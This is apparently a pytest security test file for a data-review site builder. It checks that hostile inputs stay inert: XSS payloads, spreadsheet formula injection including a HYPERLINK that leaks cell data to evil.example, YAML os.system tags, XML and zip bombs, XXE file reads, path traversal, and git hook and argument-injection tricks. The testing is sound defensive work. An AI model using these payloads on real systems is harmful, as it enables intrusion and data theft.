"""Data made to harm: nothing runs, nothing outside the review is read or written, pages show it as text."""

import csv
import io
import json
import os
import re
import shutil
import subprocess
import sys
import time
import zipfile
from html.parser import HTMLParser
from pathlib import Path, PureWindowsPath

import pytest
from openpyxl import Workbook
from test_bad_input import CLEAN, KZ, Call, contents, write_files

from headway.cli import main
from headway.errors import HeadwayError, ReviewError, SourceError
from headway.model.spreadsheet_text import guarded, unguarded
from headway.sources.open_sdg.documents import load_document
from headway.sources.problems import ProblemLog
from headway.sources.retrieve import copy_files, retrieve
from headway.sources.table.grid import load_grid
from headway.sources.yaml_events import Faulty, load

posix = pytest.mark.skipif(sys.platform == "win32", reason="no such file there")

# Text that would like to be more than text

TEXTS = {
    "a script": "<script>steal()</script>",
    "the end of a script": "</script><script>steal()</script>",
    "a comment in a script": "<!--<script>steal()",
    "an event handler": '"><img src=x onerror=steal()>',
    "a handler without quotes": "' onmouseover='steal()",
    "a link that runs": "[press](javascript:steal())",
    "a link that runs, hidden": "[press](JaVa&#115;cript:steal())",
    "data as a page": "[press](data:text/html,<script>steal()</script>)",
    "a picture that tells": "![x](https://evil.example/steal.png)",
    "a vector picture": "<svg onload=steal()>",
    "a frame": "<iframe src=javascript:steal()></iframe>",
    "a line of JavaScript": "a\u2028steal()\u2029b",
    "a template": "{{ 7*7 }}{% raw %}{found.__class__}",
    "turned letters": "\u202ekcatta\u202c \u2066x\u2069 \u200f",
    "invisible letters": "a\u200bb\u200d\ufeffc",
    "a formula": '=HYPERLINK("https://evil.example/?"&A1,"press")',
    "a formula with a plus": "+1+cmd|' /C calc'!A0",
    "a formula with a minus": "-2+3+cmd|' /C calc'!A0",
    "a formula with an at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a formula after a tab": "\t=1+1",
    "a formula of wide letters": "＝1+1",
    "a formula on two lines": "=1+1\nsteal",
}
MARK = "steal"


def field(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def scalar(text: str) -> str:
    """A YAML text in double quotes, which JSON's is."""
    return json.dumps(text)


def hostile_files() -> dict[str, str]:
    """A repository that says such a thing wherever it may say something."""
    texts = list(TEXTS.values())
    header = "Year,REF_AREA,SEX," + field("<b onclick=steal()>Group") + ",COMMENT_OBS,Observation status,Value\n"
    rows = [f"{year},{area},,,,,{value}\n" for area in ("", "KZALA") for year, value in ((2015, 2.6), (2019, 4.3), (2023, 5.2))]
    rows += [f"2023,KZALA,{field(text)},,{field(text)},{field(text)},{place}.5\n" for place, text in enumerate(texts)]
    rows += [f"2023,KZALA,F,{field(text)},,,{place}.5\n" for place, text in enumerate(texts)]
    rows += [f"{field(text)},KZALA,M,,,,1.5\n2022,{field(text)},,,,,{place}.25\n2021,,,,,,{field(text)}\n" for place, text in enumerate(texts)]
    meta = "".join(f"{name}: {scalar(''.join(texts))}\n" for name in ("indicator_definition", "computation_units", "source_organisation_1", "comments_limitations", "source_url_1"))
    labels = "".join(f"{scalar(text)}: {scalar(text)}\n" for text in texts)
    files = {"config_data.yml": "languages:\n  - en\n", "LICENSE": texts[0] + "\n", "translations/en/SEX.yml": labels, "translations/en/REF_AREA.yml": labels}
    for place, text in enumerate(texts):
        files[f"meta/9-9-{place + 1}.yml"] = f"indicator_name: {scalar(text)}\nindicator_available: {scalar(text)}\nreporting_status: complete\n{meta}"
        files[f"data/indicator_9-9-{place + 1}.csv"] = header + "".join(rows[: 6 if place else None])
    return files


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A review of such a repository and such a table, with such words in its own files, built."""
    root = tmp_path_factory.mktemp("poisoned")
    write_files(root / "office", hostile_files())
    plan = io.StringIO()
    csv.writer(plan).writerows([["Code", "Name", "Unit", "Area", "2019", "2020"], *[[f"P{i}", t, t, t, 1, 2] for i, t in enumerate(TEXTS.values())]])
    write_files(root, {"plan.csv": plan.getvalue()})
    review = root / "review"
    assert main(["new", str(review), *KZ, "--source", f"open-sdg={root / 'office'}", "--source", f"table={root / 'plan.csv'}", "--year", "2026"]) == 0
    settings = (review / "review.toml").read_text(encoding="utf-8")
    settings = re.sub(r'(?m)^en = ".*"$', lambda _: f"en = {json.dumps(''.join(TEXTS.values()))}", settings, count=1)
    (review / "review.toml").write_text(settings, encoding="utf-8")
    for path in sorted((review / "text").glob("*.md")):
        path.write_text("\n\n".join(TEXTS.values()), encoding="utf-8")
    _rename_areas_and_bodies(review)
    assert main(["build", str(review)]) == 0
    return review


def _rename_areas_and_bodies(review: Path) -> None:
    from headway.review.tables import write_table

    for file in ("areas.csv", "bodies.csv", "indicators.csv"):
        with (review / file).open(encoding="utf-8-sig", newline="") as stream:
            rows = [{name: unguarded(cell) for name, cell in row.items()} for row in csv.DictReader(stream)]
        for place, row in enumerate(rows):
            for name in row:
                if name.startswith("name_") or name in ("reason", "source"):
                    row[name] = list(TEXTS.values())[place % len(TEXTS)]
        if rows:
            write_table(review / file, list(rows[0]), rows)


class Page(HTMLParser):
    """What a browser would run or follow: handlers, addresses, the content of scripts."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.handlers, self.addresses, self.sources, self.scripts, self.tags, self.text = [], [], [], [], [], []
        self.inside: dict[str, str] | None = None
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.handlers += [(tag, name, value) for name, value in attrs if name.startswith("on") or name in ("srcdoc", "style") and MARK in (value or "")]
        self.addresses += [value or "" for name, value in attrs if name in ("href", "src", "action", "formaction", "data", "xlink:href", "poster")]
        self.sources += [value or "" for name, value in attrs if name in ("src", "poster", "data", "action", "formaction")]
        if tag == "script":
            self.inside = {name: value or "" for name, value in attrs} | {"": ""}

    def handle_data(self, data: str) -> None:
        if self.inside is not None:
            self.inside[""] += data
        else:
            self.text.append(data)

    def handle_endtag(self, tag: str) -> None:
        if tag == "script" and self.inside is not None:
            self.scripts.append(self.inside)
            self.inside = None


def pages(review: Path) -> list[Path]:
    found = sorted((review / "build" / "site").rglob("*.html"))
    assert len(found) > 20
    return found


def test_no_page_has_a_script_a_handler_or_an_address_from_the_data(poisoned: Path) -> None:
    seen = ""
    for path in pages(poisoned):
        page = Page(path.read_text(encoding="utf-8"))
        assert [handler for handler in page.handlers if MARK in str(handler)] == [], path
        assert not {"iframe", "object", "embed", "base", "frame", "applet"} & set(page.tags), path
        for address in page.addresses:
            bare = re.sub(r"[\x00-\x20]", "", address).lower()
            assert not bare.startswith(("javascript:", "vbscript:", "data:text")), (path, address)
        assert [address for address in page.sources if re.match(r"(\w+:)?//", address)] == [], path
        for script in page.scripts:
            if MARK in script[""]:
                assert script.get("type") == "application/json", (path, script[""][:200])
                assert isinstance(json.loads(script[""]), (dict, list))
                assert not re.search(r"[<\u2028\u2029]", script[""])
        seen += "".join(page.text)
    for text in ("<script>steal()</script>", '"><img src=x onerror=steal()>', "<svg onload=steal()>"):
        assert text in seen, "shown as text"


def test_every_script_file_ends_where_it_should(poisoned: Path) -> None:
    """What stands in a script from the data is in strings that end no script and no line."""
    found = [path for path in (poisoned / "build" / "site").rglob("*.js") if MARK in path.read_text(encoding="utf-8")]
    assert found, "the data are in no script"
    for path in found:
        text = path.read_text(encoding="utf-8")
        assert not re.search(r"</script|<!--|[\u2028\u2029]", text, re.I), path
        for line in text.splitlines():
            if match := re.match(r"headway\.receive\((.*)\);$", line):
                json.loads(f"[{match[1]}]")


def test_tables_hold_no_formula(poisoned: Path) -> None:
    """Also the tables of the review itself, which people open in a spreadsheet program."""
    tables = [*(poisoned / "build").rglob("*.csv"), *poisoned.glob("*.csv")]
    assert len(tables) > 6
    seen = 0
    for path in tables:
        with path.open(encoding="utf-8-sig", newline="") as stream:
            for cells in csv.reader(stream):
                for cell in cells:
                    seen += cell.startswith("'")
                    number = re.fullmatch(r"[+-]?\d+([.,]\d+)?([eE][+-]?\d+)?", cell)
                    assert number or not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")), (path, cell)
    assert seen > 10


RESERVED = {"con", "prn", "aux", "nul", *(f"{name}{number}" for name in ("com", "lpt") for number in range(1, 10))}


def test_names_of_files_are_legal_everywhere_and_inside_the_build(poisoned: Path) -> None:
    check_names(poisoned / "build")


def check_names(folder: Path) -> None:
    names = [path.relative_to(folder) for path in folder.rglob("*")]
    for name in names:
        for part in name.parts:
            assert not re.search(r'[<>:"/\\|?*\x00-\x1f]', part), name
            assert part == part.rstrip(" ."), name
            assert part.split(".")[0].lower() not in RESERVED, name
            assert len(part.encode()) <= 200, name
        assert not PureWindowsPath(name).is_absolute()
    folded = [name.as_posix().casefold() for name in names]
    assert len(set(folded)) == len(folded)
    assert all(path.resolve().is_relative_to(folder.resolve()) for path in folder.rglob("*"))


CODES = ["../../x", "/etc/passwd", "..", ".", "CON", "nul", "COM1", "LPT9.txt", "a.", "a ", "x" * 400, "Ω" * 150, "a\\b", "a:b", "C:\\x", "G-1", "g-1", "G-1 ", "~", "%2e%2e%2f"]


def test_codes_that_are_paths_make_no_path(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    rows = [["Code", "Name", "Area", "2019", "2020"], *[[code, f"Name {i}", code, 1, 2] for i, code in enumerate(CODES)]]
    text = io.StringIO()
    csv.writer(text).writerows(rows)
    write_files(tmp_path, {"plan.csv": text.getvalue()})
    write_files(tmp_path / "office", CLEAN)
    assert main(["new", "review", *KZ, "--source", "open-sdg=office", "--source", "table=plan.csv", "--year", "2026"]) == 0
    around = sorted(tmp_path.iterdir())
    assert main(["build", "review"]) == 0
    assert sorted(tmp_path.iterdir()) == around
    check_names(tmp_path / "review" / "build")


@pytest.mark.parametrize("text", [*TEXTS.values(), "'=1", "''+x", "-5", "-", "'", "plain", "-0.5*base", "+7 727 123"])
def test_a_guarded_text_is_read_as_it_was(text: str) -> None:
    assert unguarded(guarded(text)) == text
    assert not re.match("[=@\t\r＝]", guarded(text))


def test_a_terminal_is_given_no_order(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    hostile = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202e"
    write_files(tmp_path / "office", CLEAN | {"data/indicator_1-2-1.csv": f"Year,REF_AREA,Value\n2019,,{hostile}\n2020,,1\n2020,KZALA,1\n"})
    assert main(["new", str(tmp_path / "review"), *KZ, "--source", f"open-sdg={tmp_path / 'office'}"]) == 0
    capsys.readouterr()
    main(["check", str(tmp_path / "review")])
    said = capsys.readouterr().out
    assert "\\u001b]0;owned\\u0007" in said
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", said)


# YAML


@pytest.mark.parametrize(
    "text",
    [
        "a: !!python/object/apply:os.system ['touch MARK']\n", "a: !!python/name:os.system\n", "!!python/object/new:type\nargs: [x]\n",
        "a: !!python/object/apply:subprocess.check_output [[touch, MARK]]\n", "a: !include /etc/passwd\n", "a: !!binary aGk=\n",
    ],
)  # fmt: skip
def test_a_tag_in_yaml_makes_no_object(text: str, tmp_path: Path) -> None:
    mark = tmp_path / "executed"
    found, _ = load(text.replace("MARK", str(mark)))
    assert not mark.exists()
    assert plain(found)


def plain(value: object) -> bool:
    if isinstance(value, dict):
        return all(type(key) is str and plain(entry) for key, entry in value.items())
    return all(map(plain, value)) if isinstance(value, list) else type(value) is str


LAUGHS = "a0: &a0 [x, x, x, x, x, x, x, x, x]\n" + "".join(f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]\n" for i in range(1, 30))
YAML_BOMBS = {
    "a thousand million laughs": LAUGHS, "an alias of itself": "a: &a [*a]\n", "an alias of nothing": "a: *b\n",
    "lists in lists": "a: " + "[" * 1_000_000, "mappings in mappings": "a: " + "{b: " * 1_000_000,
    "two documents": "a: 1\n---\nb: 2\n", "a list for a name": "? [a]\n: b\n",
}  # fmt: skip


@pytest.mark.parametrize("case", YAML_BOMBS)
def test_yaml_that_would_explode_is_a_problem_in_no_time(case: str, tmp_path: Path) -> None:
    """A deep enough file would end the whole process without a word."""
    path, log = tmp_path / "meta.yml", ProblemLog("office")
    path.write_text(YAML_BOMBS[case], encoding="utf-8")
    begun = time.process_time()
    assert load_document(path, "meta.yml", log) == {}
    assert time.process_time() - begun < 2
    assert "YAML_BROKEN" in {problem.code for problem in log.problems()}


def test_aliases_and_merge_keys_of_honest_size_are_read() -> None:
    assert load("a: &a {b: 1}\nc: *a\nd: {<<: *a, e: 2}\n")[0] == {"a": {"b": "1"}, "c": {"b": "1"}, "d": {"<<": {"b": "1"}, "e": "2"}}
    with pytest.raises(Faulty):
        load("a: *a\n")


def test_a_name_given_twice_is_named(tmp_path: Path) -> None:
    path, log = tmp_path / "meta.yml", ProblemLog("office")
    path.write_text("a: 1\nb: 2\na: 3\n", encoding="utf-8")
    assert load_document(path, "meta.yml", log)["a"] == "3"
    assert [(problem.code, problem.row, problem.found) for problem in log.problems()] == [("YAML_NAME_TWICE", 3, "a")]


# Workbooks


def workbook(path: Path, *cells: tuple[str, object]) -> Path:
    book = Workbook()
    for at, value in cells:
        book.active[at] = value
    book.save(path)
    return path


def replace_member(path: Path, ending: str, content: bytes) -> Path:
    with zipfile.ZipFile(path) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, content if name.endswith(ending) else data)
    return path


SHEET = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>%s</sheetData></worksheet>'
ENTITIES = b'<!DOCTYPE x [<!ENTITY a0 "ha">' + b"".join(b'<!ENTITY a%d "%s">' % (i, b"&a%d;" % (i - 1) * 10) for i in range(1, 12)) + b"]>"


def refused_workbook(path: Path) -> str:
    begun = time.monotonic()
    with pytest.raises(SourceError) as refused:
        load_grid(path)
    assert time.monotonic() - begun < 120
    return str(refused.value)


def test_a_cell_at_the_far_end_takes_no_memory(tmp_path: Path) -> None:
    """Seventeen thousand million cells lie between the first and this one."""
    assert "memory" in refused_workbook(workbook(tmp_path / "far.xlsx", ("A1", 1), ("XFD1048576", 2)))


def test_a_zip_bomb_is_refused_before_it_is_unpacked(tmp_path: Path) -> None:
    path = replace_member(workbook(tmp_path / "bomb.xlsx", ("A1", 1)), "sheet1.xml", SHEET % (b" " * 400_000_000))
    assert path.stat().st_size < 2_000_000
    assert "memory" in refused_workbook(path)


@pytest.mark.parametrize("member", ["sheet1.xml", "workbook.xml", "styles.xml"])
def test_entities_that_multiply_are_not_followed(member: str, tmp_path: Path) -> None:
    cell = b'<row r="1"><c r="A1" t="str"><v>&a11;</v></c></row>'
    path = workbook(tmp_path / "laughs.xlsx", ("A1", 1))
    replace_member(path, member, ENTITIES + SHEET % cell)
    try:
        rows = load_grid(path).rows
    except SourceError:
        return
    assert len(str(rows)) < 10_000


def test_an_entity_reads_no_file_of_this_machine(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("42.4242", encoding="utf-8")
    cell = b'<row r="1"><c r="A1" t="str"><v>&x;</v></c></row>'
    content = b'<!DOCTYPE x [<!ENTITY x SYSTEM "%s">]>' % secret.as_uri().encode() + SHEET % cell
    path = replace_member(workbook(tmp_path / "outside.xlsx", ("A1", 1)), "sheet1.xml", content)
    try:
        assert "42.4242" not in str(load_grid(path).rows)
    except SourceError as error:
        assert "42.4242" not in str(error)


def test_the_reader_of_workbooks_runs_nothing_of_the_folder_it_stands_in(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    mark = tmp_path / "executed"
    for name in ("openpyxl", "zipfile", "headway", "python_calamine", "msgspec"):
        write_files(tmp_path, {f"{name}.py": f"open({str(mark)!r}, 'w').close()\nraise ImportError\n"})
    workbook(tmp_path / "plan.xlsx", ("A1", "Code"), ("A2", "x"))
    monkeypatch.chdir(tmp_path)
    assert load_grid(Path("plan.xlsx")).rows == [["Code"], ["x"]]
    assert not mark.exists()


# Cells


def test_a_cell_of_ten_megabytes_is_named_and_keeps_nobody_waiting(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    files = CLEAN | {
        "data/indicator_1-2-2.csv": f"Year,SEX,Value\n2019,{'x' * 10_000_000},1\n",
        "data/indicator_1-3-1.csv": f"Year,SEX,Value\n2019,{'[' * 900_000},1\n{'(' * 900_000},,2\n2020,,3\n",
        "meta/1-3-1.yml": f"indicator_available: {'x' * 5_000_000}\n", "meta/1-2-2.yml": f"indicator_available: {'x' * 10_000_000}\n",
    }  # fmt: skip
    write_files(tmp_path / "office", files)
    begun = time.process_time()
    assert main(["new", str(tmp_path / "review"), *KZ, "--source", f"open-sdg={tmp_path / 'office'}"]) == 0
    assert main(["build", str(tmp_path / "review")]) == 0
    assert time.process_time() - begun < 20
    capsys.readouterr()
    main(["check", str(tmp_path / "review"), "--json"])
    told = {(problem["code"], problem["file"], problem["row"]) for problem in json.loads(capsys.readouterr().out)}
    assert {
        ("FILE_UNREADABLE", "data/indicator_1-2-2.csv", None), ("TEXT_TOO_LONG", "data/indicator_1-3-1.csv", 2),
        ("TEXT_TOO_LONG", "data/indicator_1-3-1.csv", 3), ("TEXT_TOO_LONG", "meta/1-3-1.yml", 1), ("FILE_UNREADABLE", "meta/1-2-2.yml", None),
    } <= told  # fmt: skip
    assert all(path.stat().st_size < 2_000_000 for path in (tmp_path / "review" / "build").rglob("*.html"))


@pytest.mark.parametrize("data", [b"Year,Value\n2019,1\x002\n", "Year,Value\n2019,1\n".encode("utf-16-le"), b"Year,Value\n2019,\xed\xa0\x801\n"])
def test_nul_bytes_and_lone_surrogates_are_no_text(data: bytes, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    write_files(tmp_path / "office", CLEAN | {"data/indicator_1-2-2.csv": data})
    assert main(["new", str(tmp_path / "review"), *KZ, "--source", f"open-sdg={tmp_path / 'office'}"]) == 0
    capsys.readouterr()
    main(["check", str(tmp_path / "review"), "--json"])
    told = [problem["code"] for problem in json.loads(capsys.readouterr().out) if problem["file"] == "data/indicator_1-2-2.csv"]
    assert {"FILE_UNREADABLE", "VALUE_NOT_NUMERIC"} & set(told)


# Files that are no files


@posix
def test_a_pipe_in_a_source_is_not_waited_for(tmp_path: Path) -> None:
    write_files(tmp_path / "office", CLEAN)
    for name in ("data/indicator_9-9-9.csv", "meta/9-9-9.yml", "translations.yml", "regions.geojson"):
        os.mkfifo(tmp_path / "office" / name)
    done = headway("new", "review", *KZ, "--source", "open-sdg=office", cwd=tmp_path)
    assert (done.returncode, done.stderr) == (0, "")
    assert not any(path.is_fifo() for path in (tmp_path / "review").rglob("*"))


@posix
@pytest.mark.parametrize("location", ["pipe.csv", "pipe.xlsx", "/dev/zero", "/dev/stdin", "."])
def test_a_table_that_is_a_device_is_refused(location: str, tmp_path: Path) -> None:
    for name in ("pipe.csv", "pipe.xlsx"):
        os.mkfifo(tmp_path / name)
    done = headway("new", "review", *KZ, "--source", f"table={location}", cwd=tmp_path)
    assert done.returncode == 2 and "Traceback" not in done.stderr
    assert not (tmp_path / "review").exists()


@posix
def test_links_out_of_a_source_and_in_a_ring_are_left_out(tmp_path: Path) -> None:
    office = write_files(tmp_path / "office", CLEAN)
    secret = write_files(tmp_path / "secret", {"indicator_8-8-8.csv": "Year,Value\n2020,42.4242\n"})
    for place in ("data/more", "meta/more", "translations"):
        (office / place).symlink_to(secret, target_is_directory=True)
    (office / "data/indicator_7-7-7.csv").symlink_to(secret / "indicator_8-8-8.csv")
    (office / "meta/ring").symlink_to(office, target_is_directory=True)
    (office / "data/self.csv").symlink_to(office / "data/self.csv")
    (office / "data/indicator_6-6-6.csv").symlink_to("/dev/zero")
    done = headway("new", "review", *KZ, "--source", "open-sdg=office", cwd=tmp_path)
    assert (done.returncode, done.stderr) == (0, "")
    copied = [path for path in (tmp_path / "review").rglob("*") if path.is_symlink() or path.is_file() and b"42.4242" in path.read_bytes()]
    assert copied == []


@posix
def test_a_data_folder_that_is_a_link_brings_nothing(tmp_path: Path) -> None:
    office = write_files(tmp_path / "office", CLEAN)
    (office / "data").rename(tmp_path / "elsewhere")
    (office / "data").symlink_to(tmp_path / "elsewhere", target_is_directory=True)
    done = headway("new", "review", *KZ, "--source", "open-sdg=office", cwd=tmp_path)
    assert done.returncode == 2 and not (tmp_path / "review").exists()


@posix
@pytest.mark.parametrize("name", [b"data/indicator_\xff.csv", b"data/indicator_1\n2.csv", b"meta/1\x1b[2J.yml"])
def test_a_file_name_that_is_no_text_is_named(name: bytes, tmp_path: Path) -> None:
    write_files(tmp_path / "office", CLEAN)
    Path(os.fsdecode(os.fsencode(tmp_path / "office") + b"/" + name)).write_text("Year,Value\n2020,1\n", encoding="utf-8")
    done = headway("new", "review", *KZ, "--source", "open-sdg=office", cwd=tmp_path)
    assert done.returncode == 2 and "file name" in done.stderr and done.stderr.count("\n") == 1
    assert not re.search("[\x00-\x08\x0b-\x1f]", done.stderr)


def headway(*arguments: object, cwd: Path, **environment: str) -> subprocess.CompletedProcess:
    command = [sys.executable, "-m", "headway.cli", *map(str, arguments)]
    return subprocess.run(
        command, cwd=cwd, capture_output=True, encoding="utf-8", timeout=300, stdin=subprocess.DEVNULL, env=os.environ | environment
    )


# A review that came from somebody else


@pytest.fixture(scope="module")
def honest(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("honest")
    write_files(root / "office", CLEAN)
    assert main(["new", str(root / "review"), *KZ, "--source", f"open-sdg={root / 'office'}", "--year", "2026"]) == 0
    return root / "review"


@pytest.fixture
def review(honest: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(honest, tmp_path / "review"))


@pytest.fixture
def call(capsys: pytest.CaptureFixture[str]) -> Call:
    return Call(capsys)


COMMANDS = (["check"], ["build"], ["refresh", "--accept"], ["show", "1.2.1/KZALA"])


@posix
@pytest.mark.parametrize("command", COMMANDS, ids=lambda command: command[0])
@pytest.mark.parametrize("name", ["build", ".headway", "sources", "text"])
def test_a_folder_of_the_review_that_is_a_link_out_of_it_is_refused(name: str, command: list[str], review: Path, call: Call) -> None:
    """A build clears its own folders away: it must not clear others."""
    elsewhere = write_files(review.parent / "elsewhere", {"site/keep.txt": "mine", "data/keep.txt": "mine", "store-1/keep.txt": "mine"})
    shutil.rmtree(review / name, ignore_errors=True)
    (review / name).symlink_to(elsewhere, target_is_directory=True)
    before = contents(elsewhere)
    assert "link out of the review" in call.refused(command[0], review, *command[1:])
    assert contents(elsewhere) == before


@posix
@pytest.mark.parametrize("name", ["text/intro.en.md", "indicators.csv", "areas.csv", "review.toml", "sources/sources.lock"])
def test_a_link_in_a_review_shows_nothing_of_this_machine(name: str, review: Path, call: Call) -> None:
    secret = write_files(review.parent, {"secret.txt": "name,password\nroot,hunter2\n"}) / "secret.txt"
    (review / name).parent.mkdir(exist_ok=True)
    (review / name).unlink(missing_ok=True)
    (review / name).symlink_to(secret)
    status, out, err = call("build", review)
    assert status == 2 and "hunter2" not in out + err
    assert not any(b"hunter2" in path.read_bytes() for path in review.rglob("*") if path.is_file() and not path.is_symlink())


@posix
@pytest.mark.parametrize("kind", ["link", "folder link", "pipe"])
def test_a_pinned_copy_holds_plain_files_only(kind: str, review: Path, call: Call) -> None:
    pinned = next((review / "sources").glob("*/*/data"))
    odd = pinned / "indicator_9-9-9.csv"
    if kind == "pipe":
        os.mkfifo(odd)
    else:
        odd.symlink_to("/etc/passwd" if kind == "link" else "/etc")
    assert "link or a device" in call.refused("check", review)


@pytest.mark.parametrize("folder", ["../../victim", "/victim", "office/../../../victim", "", ".", "office", "../victim/0123456789ab", "office/0123456789ab/.."])
def test_a_pin_names_no_folder_outside_the_sources(folder: str, review: Path, call: Call) -> None:
    """`refresh --accept` clears a damaged copy away: what it clears must be one."""
    victim = write_files(review.parent / "victim", {"keep.txt": "mine", "0123456789ab/keep.txt": "mine"})
    lock = review / "sources" / "sources.lock"
    lock.write_text(re.sub(r'(?m)^folder = ".*"$', f"folder = {json.dumps(folder)}", lock.read_text(encoding="utf-8")), encoding="utf-8")
    before = contents(review.parent / "victim") | contents(review)
    for command in COMMANDS:
        assert "sources.lock" in call.refused(command[0], review, *command[1:])
    assert contents(victim) | contents(review) == before


@pytest.mark.parametrize("name", ["../x", "a/b", "A", "a\n", "", ".", "con:", "ä"])
def test_a_source_has_a_name_that_is_no_path(name: str, review: Path, call: Call) -> None:
    path = review / "review.toml"
    path.write_text(re.sub(r'(?m)^name = "office"$', lambda _: f"name = {json.dumps(name)}", path.read_text(encoding="utf-8")), encoding="utf-8")
    assert "sources.name" in call.refused("check", review)


@pytest.mark.parametrize("given", ["../..", "/etc", "../elsewhere", "\x00"])
def test_the_configuration_of_a_source_leads_nowhere_else(given: str, tmp_path: Path) -> None:
    write_files(tmp_path / "elsewhere", {"data/indicator_1-1-1.csv": "Year,Value\n2020,42.4242\n"})
    write_files(tmp_path / "office", CLEAN | {"config_data.yml": f"src_dir: {json.dumps(given)}\nmap_layers:\n- geojson_file: ../secret.geojson\n"})
    assert main(["new", str(tmp_path / "review"), *KZ, "--source", f"open-sdg={tmp_path / 'office'}"]) == 0
    assert not any(b"42.4242" in path.read_bytes() for path in (tmp_path / "review").rglob("*") if path.is_file())


# Git


def git(folder: Path, *arguments: str) -> None:
    identity = ["-c", "user.name=x", "-c", "user.email=x@example.org", "-c", "protocol.file.allow=always"]
    subprocess.run(["git", *identity, *arguments], cwd=folder, check=True, capture_output=True, timeout=120)


@pytest.fixture
def trap(tmp_path: Path) -> tuple[Path, Path]:
    """A git repository in which everything that can run something would leave a mark; (repository, mark)."""
    if shutil.which("git") is None or sys.platform == "win32":
        pytest.skip("git and a shell are needed")
    mark, office = tmp_path / "executed", write_files(tmp_path / "office", CLEAN)
    run = tmp_path / "run.sh"
    run.write_text(f"#!/bin/sh\ntouch {mark}\nexit 0\n", encoding="utf-8")
    run.chmod(0o755)
    write_files(office, {".gitattributes": "* filter=trap diff=trap merge=trap\n*.csv text eol=lf\n"})
    other = write_files(tmp_path / "other", {"x.txt": "x"})
    git(other, "init", "--quiet")
    git(other, "add", ".")
    git(other, "commit", "--quiet", "-m", "x")
    git(office, "init", "--quiet")
    git(office, "submodule", "--quiet", "add", other.as_uri(), "module")
    git(office, "add", ".")
    git(office, "commit", "--quiet", "-m", "x")
    mark.unlink(missing_ok=True)
    for name in ("post-checkout", "post-merge", "pre-commit", "post-index-change", "reference-transaction", "fsmonitor-watchman", "pre-receive", "upload-pack"):
        shutil.copy(run, office / ".git" / "hooks" / name)
    for key in (
        "core.fsmonitor", "core.sshCommand", "core.pager", "core.editor", "core.askPass", "credential.helper", "gpg.program", "filter.trap.clean",
        "filter.trap.smudge", "filter.trap.process", "diff.external", "uploadpack.packObjectsHook", "remote.origin.uploadpack", "core.gitProxy", "alias.rev-parse", "alias.clone",
    ):  # fmt: skip
        subprocess.run(["git", "config", key, f"!{run}" if "alias" in key else str(run)], cwd=office, check=True, timeout=60)
    return office, mark


@pytest.mark.parametrize("form", ["folder", "file URL", "bare", "a commit that is not there"])
def test_a_repository_runs_nothing_and_brings_no_submodule(form: str, trap: tuple[Path, Path], tmp_path: Path) -> None:
    office, mark = trap
    location = str(office)
    if form == "file URL":
        location = office.as_uri()
    elif form == "bare":
        location = str(shutil.copytree(office / ".git", tmp_path / "bare"))
        git(tmp_path / "bare", "config", "core.bare", "true")
    elif form != "folder":
        git(office, "config", "extensions.partialClone", "origin")
        git(office, "config", "remote.origin.url", "ssh://nowhere.invalid/x")
        git(office, "config", "remote.origin.promisor", "true")
        shutil.rmtree(office / ".git" / "objects")
        (office / ".git" / "objects").mkdir()
    mark.unlink(missing_ok=True)
    try:
        with retrieve("open-sdg", location) as retrieved:
            assert "module/x.txt" not in retrieved.files and len(retrieved.files) == 3
            copy_files(retrieved, tmp_path / "copy")
    except HeadwayError:
        assert form == "bare"  # git itself may refuse such a one
    assert not mark.exists()


ODD = [
    "--upload-pack=touch MARK", "-u touch MARK", "-oProxyCommand=touch MARK", "ext::sh -c touch% MARK", "fd::17", "file://-x/../MARK",
    "file:///dev/null", "file://", "file:relative", "FILE:///etc", "ssh://-oProxyCommand=touch%20MARK/x", "git@-x:y", "git@host:-x", "https://", "https://user:pass@-x/",
    "http://[::1", "https://example.invalid/$(touch MARK)", "transport::https://x", "\x00", "https://a\nb",
]  # fmt: skip


@pytest.mark.parametrize("location", ODD)
def test_an_odd_address_runs_nothing_and_is_refused(location: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    mark = tmp_path / "executed"
    with pytest.raises((HeadwayError, OSError)):
        with retrieve("open-sdg", location.replace("MARK", str(mark))):
            pass
    assert not mark.exists() and list(tmp_path.iterdir()) == []


def test_a_password_in_an_address_is_asked_of_nobody(tmp_path: Path) -> None:
    """Git would wait at a terminal for ever."""
    from headway.sources import git as module

    seen = subprocess.run(["git", "var", "-l"], capture_output=True, text=True, timeout=60).returncode if shutil.which("git") else None
    if seen is None:
        pytest.skip("git is not installed")
    done = module._git("-c", "alias.show-env=!env", "show-env", patience=60)
    assert "GIT_TERMINAL_PROMPT=0" in done.stdout and "GIT_NO_LAZY_FETCH=1" in done.stdout


def test_a_review_that_is_no_review_is_refused_even_where_a_link_leads_to_itself(tmp_path: Path) -> None:
    if sys.platform == "win32":
        pytest.skip("links need a right there")
    (tmp_path / "review").mkdir()
    (tmp_path / "review" / "review.toml").symlink_to("review.toml")
    with pytest.raises(ReviewError):
        from headway.review.settings import load_settings

        load_settings(tmp_path / "review")
